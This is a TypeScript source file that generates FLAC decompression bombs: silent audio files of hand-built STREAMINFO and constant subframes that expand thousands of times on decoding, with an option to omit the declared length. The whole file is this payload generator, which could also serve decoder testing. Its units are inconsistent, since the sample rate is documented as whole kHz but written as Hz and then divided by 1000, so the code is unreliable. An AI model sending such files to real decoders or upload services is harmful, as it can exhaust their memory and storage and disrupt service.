/** FLAC files of silence that unpack to thousands of times their size (RFC 9639). */

interface Bomb {
  readonly seconds: number;
  /** Whole kHz. */
  readonly sampleRate: number;
  readonly channels: number;
  /** Whether STREAMINFO says how long it is. */
  readonly promises: boolean;
}

const BLOCK = 65_535;

/** Every frame holds 65,535 frames of one value in each channel, in some 10 bytes and 3 for each channel. */
export function flacBomb({ seconds, sampleRate, channels, promises }: Bomb): Uint8Array {
  const blocks = Math.ceil((seconds * sampleRate) / BLOCK);
  const total = promises ? blocks * BLOCK : 0;
  const info = new Uint8Array(42);
  const view = new DataView(info.buffer);
  info.set(new TextEncoder().encode('fLaC'));
  // The last block of metadata, STREAMINFO, of 34 bytes.
  view.setUint32(4, 0x80000022);
  view.setUint16(8, BLOCK);
  view.setUint16(10, BLOCK);
  // 20 bits of rate, 3 of channels, 5 of depth, 36 of length.
  view.setUint32(18, ((sampleRate << 12) | ((channels - 1) << 9) | (15 << 4) | Math.floor(total / 2 ** 32)) >>> 0);
  view.setUint32(22, total >>> 0);
  const frames = Array.from({ length: blocks }, (_, n) => frame(n, sampleRate, channels));
  const bytes = new Uint8Array(42 + frames.reduce((sum, one) => sum + one.length, 0));
  bytes.set(info);
  let at = 42;
  for (const one of frames) {
    bytes.set(one, at);
    at += one.length;
  }
  return bytes;
}

function frame(number: number, sampleRate: number, channels: number): Uint8Array {
  // Blocks of one size, told in 16 bits behind the number, and the rate in kHz behind that; 16 bits a sample.
  const size = [(BLOCK - 1) >> 8, (BLOCK - 1) & 0xff];
  const head = [0xff, 0xf8, 0x7c, ((channels - 1) << 4) | 0x08, ...coded(number), ...size, sampleRate / 1000];
  const bytes = [...head, crc(head, 0x07, 8)];
  // A constant subframe, and its value.
  for (let c = 0; c < channels; c++) bytes.push(0, 0, 0);
  const check = crc(bytes, 0x8005, 16);
  return Uint8Array.from([...bytes, check >> 8, check & 0xff]);
}

/** A number as FLAC writes it: as UTF-8 does. */
const coded = (number: number) =>
  number < 0x80 ? [number] : [...new TextEncoder().encode(String.fromCodePoint(number))];

function crc(bytes: readonly number[], polynomial: number, width: number): number {
  const top = 1 << (width - 1);
  const all = (1 << width) - 1;
  let value = 0;
  for (const byte of bytes) {
    value ^= byte << (width - 8);
    for (let bit = 0; bit < 8; bit++) value = ((value & top) !== 0 ? (value << 1) ^ polynomial : value << 1) & all;
  }
  return value;
}
